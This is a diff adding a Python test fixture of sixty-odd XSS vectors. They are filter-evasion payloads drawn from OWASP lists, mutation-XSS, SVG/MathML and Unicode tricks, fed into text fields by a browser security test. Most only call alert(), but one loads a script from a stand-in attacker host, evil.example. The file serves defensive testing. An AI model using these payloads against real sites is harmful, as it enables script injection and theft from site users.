@@ -1,0 +1,83 @@
+"""Known XSS vectors, put into every text field by tests/security/test_xss.py.
+
+Each one, if it ever ran, would call alert() or set window.__xss — which the
+browser test watches for. Sources: the classic filter-evasion lists (OWASP),
+HTML5 and mutation-XSS payloads, SVG/MathML tricks, broken markup and Unicode.
+"""
+
+VECTORS = [
+    # Script elements in many spellings.
+    "<script>alert(1)</script>",
+    "<SCRIPT>window.__xss=1</SCRIPT>",
+    "<script src=//evil.example/x.js></script>",
+    "<scr<script>ipt>alert(2)</scr</script>ipt>",
+    "<script\x0c>alert(3)</script>",
+    "<script/x>alert(4)</script>",
+    '"><script>alert(5)</script>',
+    "'><script>alert(6)</script>",
+    "</title><script>alert(7)</script>",
+    "</textarea><script>alert(8)</script>",
+    "</script><script>alert(9)</script>",
+    "<!--<script>alert(10)//--></script>",
+    # Event handlers.
+    "<img src=x onerror=alert(11)>",
+    '<img src="x" onerror="window.__xss=1">',
+    "<body onload=alert(12)>",
+    "<svg onload=alert(13)>",
+    "<svg/onload=alert(14)>",
+    '<div onmouseover="alert(15)">hover</div>',
+    "<input autofocus onfocus=alert(16)>",
+    "<details open ontoggle=alert(17)>",
+    "<video><source onerror=alert(18)></video>",
+    "<audio src=x onerror=alert(19)>",
+    "<marquee onstart=alert(20)>",
+    "<select autofocus onfocus=alert(21)>",
+    '<a href="#" onclick="alert(22)">click</a>',
+    "<iframe onload=alert(23)></iframe>",
+    "<object data=x onerror=alert(24)>",
+    # URLs with dangerous schemes.
+    '<a href="javascript:alert(25)">link</a>',
+    '<a href="JaVaScRiPt:alert(26)">link</a>',
+    '<a href="  javascript:alert(27)">link</a>',
+    '<a href="java&#x09;script:alert(28)">link</a>',
+    '<a href="&#106;avascript:alert(29)">link</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgzMCk8L3NjcmlwdD4=">d</a>',
+    '<a href="vbscript:msgbox(31)">v</a>',
+    '<iframe src="javascript:alert(32)"></iframe>',
+    '<form action="javascript:alert(33)"><button>go</button></form>',
+    '<button formaction="javascript:alert(34)">go</button>',
+    '<embed src="javascript:alert(35)">',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(36)">',
+    '<base href="javascript:alert(37)//">',
+    "javascript:alert(38)",
+    # SVG and MathML tricks.
+    "<svg><script>alert(39)</script></svg>",
+    '<svg><a xlink:href="javascript:alert(40)"><text y="20">x</text></a></svg>',
+    "<svg><animate onbegin=alert(41) attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(42)>",
+    '<math href="javascript:alert(43)">x</math>',
+    "<svg><style><img src=x onerror=alert(44)></style></svg>",
+    # Broken and mutating markup.
+    "<img src=x onerror=alert(45)//",
+    '<<img src=x onerror="alert(46)">',
+    '<noscript><p title="</noscript><img src=x onerror=alert(47)>">',
+    "<style>@import 'javascript:alert(48)';</style>",
+    '<div style="background:url(javascript:alert(49))">bg</div>',
+    "<template><script>alert(50)</script></template>",
+    "<textarea></textarea><img src=x onerror=alert(51)>",
+    "<table><tr><td><img src=x onerror=alert(52)></td></tr></table>",
+    # Unicode and encoding tricks.
+    "\u003cscript\u003ealert(53)\u003c/script\u003e",
+    "＜script＞alert(54)＜/script＞",
+    "<img src=x onerror=\u0061lert(55)>",
+    "\u202e<script>alert(56)</script>",
+    "%3Cscript%3Ealert(57)%3C/script%3E",
+    "&lt;script&gt;alert(58)&lt;/script&gt;",
+    "<scr\u0000ipt>alert(59)</scr\u0000ipt>",
+    # Breaking out of JSON and attributes.
+    '</script><img src=x onerror=alert(60)>{"a":"',
+    '"; alert(61); "',
+    "' onmouseover='alert(62)",
+    '" autofocus onfocus="alert(63)',
+    "{{7*7}}<img src=x onerror=alert(64)>",
+]
